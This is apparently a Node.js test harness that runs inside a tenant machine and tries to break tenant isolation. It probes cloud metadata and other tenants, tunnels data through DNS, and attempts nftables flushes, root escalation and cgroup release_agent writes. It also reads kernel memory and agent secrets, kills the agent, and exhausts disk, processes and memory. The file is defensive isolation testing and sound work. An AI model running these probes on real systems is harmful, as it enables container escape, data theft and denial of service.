// Runs in a tenant's machine, as its gateway's user: tries everything a tenant would try against the rest of us. Each
// attempt answers what it got hold of; null when it got nothing.
import { execFileSync, spawn } from "node:child_process";
import { createSocket } from "node:dgram";
import dns from "node:dns/promises";
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { networkInterfaces } from "node:os";

const PATIENCE_MS = 1_500;

/** Connects, says something, and answers what it hears; an accepted connection is something already. */
function tcp(host, port, say = "GET / HTTP/1.0\r\n\r\n") {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    let isOpen = false;
    const end = (got) => (resolve(got), socket.destroy());
    socket.setTimeout(PATIENCE_MS, () => end(isOpen ? "an open connection" : null));
    socket.once("error", () => end(null));
    socket.once("connect", () => ((isOpen = true), socket.write(say)));
    socket.once("data", (data) => end(String(data).slice(0, 200)));
    socket.once("close", () => end(null));
  });
}

function udp(host, port, bytes) {
  return new Promise((resolve) => {
    const socket = createSocket(host.includes(":") ? "udp6" : "udp4");
    const end = (got) => (resolve(got), socket.close());
    const timer = setTimeout(() => end(null), PATIENCE_MS);
    socket.once("error", () => (clearTimeout(timer), end(null)));
    socket.once("message", (message) => (clearTimeout(timer), end(`${message.length} bytes`)));
    socket.connect(port, host, () => socket.send(bytes));
  });
}

/** What a program printed, if it did what it was asked. */
function run(program, ...args) {
  try {
    const text = execFileSync(program, args, {
      timeout: 10_000,
      encoding: "utf8",
      stdio: ["ignore", "pipe", "pipe"],
    });
    return `${program} worked: ${text.slice(0, 200)}`;
  } catch (error) {
    // Else a program that the image lacks would pass for a refusal.
    if (error.code === "ENOENT") throw new Error(`${program} is not there to try it with`, { cause: error });
    return null;
  }
}

function read(path) {
  try {
    return readFileSync(path, "latin1").slice(0, 200) || null;
  } catch {
    return null;
  }
}

function write(path) {
  try {
    writeFileSync(path, "x");
    return `wrote ${path}`;
  } catch {
    return null;
  }
}

const each = (places, attempt) =>
  Object.fromEntries(places.map(([name, ...place]) => [name, () => attempt(...place)]));

/** Every file that can be read and isn't the kernel's, searched for what belongs to another tenant. */
function search(mark) {
  const found = [];
  const visit = (dir, depth) => {
    if (depth > 12) return;
    let entries = [];
    try {
      entries = readdirSync(dir, { withFileTypes: true });
    } catch {
      return;
    }
    for (const entry of entries) {
      const path = `${dir === "/" ? "" : dir}/${entry.name}`;
      if (["/proc", "/sys", "/usr", "/opt", "/dev"].includes(path)) continue;
      if (entry.isDirectory()) visit(path, depth + 1);
      else if (entry.isSocket()) found.push(`a socket: ${path}`);
      else if (entry.isFile() && statSync(path).size < 1e6 && (read(path) ?? "").includes(mark))
        found.push(path);
    }
  };
  visit("/", 0);
  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name)))
    if ((read(`/proc/${pid}/environ`) ?? "").includes(mark)) found.push(`/proc/${pid}/environ`);
  return found.length === 0 ? null : found.join(", ");
}

/** Another user's processes. The first must be among them, or there is no agent to try it on. */
function pidsOf(uid) {
  const pids = readdirSync("/proc").filter(
    (name) => /^\d+$/.test(name) && statSync(`/proc/${name}`).uid === uid,
  );
  if (!pids.includes("1")) throw new Error("There is no agent here to try it on.");
  return pids;
}

const DNS_QUESTION = Buffer.from("1234010000010000000000000765786d61706c6503636f6d0000010001", "hex");

function attemptsFor(world) {
  const own = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
  const wire = own.find(({ address }) => address.startsWith("198."))?.address ?? "198.18.0.2";
  const hostEnd = wire.replace(/\d+$/, (last) => String(Number(last) - 1));
  return {
    ...each(
      [
        ["another tenant's machine, on its private address", world.victim.privateIp, world.victim.port],
        [
          "another tenant's machine, where its gateway listens",
          world.victim.privateIp,
          world.victim.gatewayPort,
        ],
        [
          "another tenant's machine, where the proxy reaches it",
          world.victim.published,
          world.victim.gatewayPort,
        ],
        ["a machine of the same network", world.neighbour.privateIp, world.neighbour.port],
        ["this computer, by the wire", hostEnd, world.hostPort],
        ["Fly's API on this computer, by the wire", hostEnd, world.flyPort],
        ["this computer's own address", world.hostAddress, world.hostPort],
        ["a service on this computer's loopback", "127.0.0.1", world.hostPort],
        ["Fly's API on this computer's loopback", "127.0.0.1", world.flyPort],
        ["cloud metadata", "169.254.169.254", 80],
        ["cloud metadata over IPv6", "fd00:ec2::254", 80],
        ["Fly's internal resolver", "fdaa::3", 53],
        ["a direct address", "1.1.1.1", 443],
        ["a direct address over IPv6", "2606:4700:4700::1111", 443],
        ["mail", "1.1.1.1", 25],
        ["a mining pool", "1.1.1.1", 3333],
        ["the gate, without a name", "127.0.0.1", 5443],
      ],
      (host, port) => tcp(host, port),
    ),
    ...each(
      [
        ["a resolver elsewhere", "8.8.8.8", 53],
        ["a resolver elsewhere over IPv6", "2001:4860:4860::8888", 53],
        ["this computer's resolver, by the wire", hostEnd, 53],
        ["QUIC to a direct address", "1.1.1.1", 443],
      ],
      (host, port) => udp(host, port, DNS_QUESTION),
    ),
    "a name that isn't allowed": () =>
      dns.lookup("example.com").then(
        ({ address }) => address,
        () => null,
      ),
    "data in a name": () =>
      dns.resolveTxt("c2VjcmV0.tunnel.example").then(
        (texts) => JSON.stringify(texts),
        () => null,
      ),
    "a raw socket": () => run("perl", "-e", "socket(S, 2, 3, 1) or die; print 1"),
    "a packet socket": () => run("perl", "-e", "socket(S, 17, 3, 0) or die; print 1"),
    "the packet filter's rules": () => run("nft", "list", "ruleset"),
    "no packet filter": () => run("nft", "flush", "ruleset"),
    "no packet filter, as root of a name space": () => run("unshare", "-Ur", "nft", "flush", "ruleset"),
    "another route": () => run("ip", "route", "add", "192.0.2.0/24", "dev", "host0"),
    "another address": () => run("ip", "addr", "add", "198.18.77.77/32", "dev", "host0"),
    "a mount": () => run("mount", "-t", "tmpfs", "tmpfs", "/tmp"),
    "a mount, as root of a name space": () => run("unshare", "-Urm", "mount", "-t", "tmpfs", "tmpfs", "/mnt"),
    "a device of this computer": () =>
      run("perl", "-e", "my $p = '/tmp/disk'; syscall(133, $p, 0060600, 0xfe00) == 0 or die"),
    root: () => run("setpriv", "--reuid=0", "true"),
    "the kernel's log": () =>
      run("perl", "-e", "my $b = ' ' x 4096; syscall(103, 3, $b, 4096) > 0 or die; print $b"),
    "the kernel's memory": () => read("/proc/kcore") ?? read("/dev/mem"),
    "the kernel's settings": () => write("/proc/sys/kernel/core_pattern") ?? write("/proc/sysrq-trigger"),
    "its own limits": () =>
      write("/sys/fs/cgroup/memory/memory.limit_in_bytes") ??
      write("/sys/fs/cgroup/memory.max") ??
      write("/sys/fs/cgroup/pids/pids.max"),
    "a release agent": () =>
      write("/sys/fs/cgroup/memory/release_agent") ?? write("/sys/fs/cgroup/release_agent"),
    "the image": () => write("/usr/bin/node") ?? write("/opt/runtime/node_modules/x") ?? write("/etc/passwd"),
    "what belongs to another tenant, in any file or process": () => search(world.victim.mark),
    "what the agent was started with": () => {
      const found = pidsOf(0).filter((pid) =>
        (read(`/proc/${pid}/environ`) ?? "").includes(world.agent.mark),
      );
      const script = read("/run/machine/start");
      return found.length > 0 || script !== null ? `${found.join()} ${script}` : null;
    },
    "the agent's file": () => read(world.agent.file),
    "the agent's memory": () =>
      pidsOf(0)
        .map((pid) => read(`/proc/${pid}/maps`) ?? read(`/proc/${pid}/mem`))
        .find(Boolean),
    "the agent's open files": () => {
      for (const pid of pidsOf(0))
        try {
          return readdirSync(`/proc/${pid}/fd`).join();
        } catch {
          // As it should be.
        }
      return null;
    },
    "the agent's life": () => {
      for (const pid of pidsOf(0))
        try {
          process.kill(Number(pid), "SIGKILL");
          return `killed ${pid}`;
        } catch {
          // As it should be.
        }
      return null;
    },
    "another config at the next start": () =>
      write("/etc/launchpad/openclaw.json") ?? write("/run/machine/boot"),
    "a process of this computer": () => {
      const pids = readdirSync("/proc").filter((name) => /^\d+$/.test(name) && name !== String(process.pid));
      const foreign = pids.filter((pid) =>
        /launchpad-hostile|local\/fly|systemd/.test(read(`/proc/${pid}/cmdline`) ?? ""),
      );
      return foreign.length === 0 ? null : foreign.join();
    },
    "the socket that leads out": () => (existsSync("/run/launchpad") ? "/run/launchpad is there" : null),
  };
}

/** Takes all it can get of something, and answers when it gets no more. */
const APPETITES = {
  disk: () => run("sh", "-c", "dd if=/dev/zero of=/data/full bs=4M 2>&1; true"),
  inodes: () =>
    run(
      "sh",
      "-c",
      "mkdir -p /data/many; cd /data/many; i=0; while [ $i -lt 100000 ] && true > f$i; do i=$((i+1)); done 2>/dev/null; echo files=$i",
    ),
  processes: () =>
    run(
      "sh",
      "-c",
      `trap 'kill -9 $p' EXIT; for i in $(seq 900); do sleep 20 & p="$p $!"; done 2>&1; true`,
    ) ?? "cannot fork",
  scratch: () => run("sh", "-c", "dd if=/dev/zero of=/tmp/full bs=4M 2>&1; rm -f /tmp/full; true"),
  memory: () => {
    // In a process of its own, which is the one that is killed.
    spawn(process.execPath, ["-e", "const kept = []; for (;;) kept.push(Buffer.alloc(16e6, 1));"], {
      stdio: "ignore",
    });
    return "asked for";
  },
};

const { appetite, world } = JSON.parse(process.argv[2]);
if (appetite !== undefined) {
  console.log(JSON.stringify({ got: APPETITES[appetite]() }));
} else {
  const results = {};
  for (const [name, attempt] of Object.entries(attemptsFor(world))) {
    results[name] = (await attempt()) ?? null;
  }
  console.log(JSON.stringify(results));
}
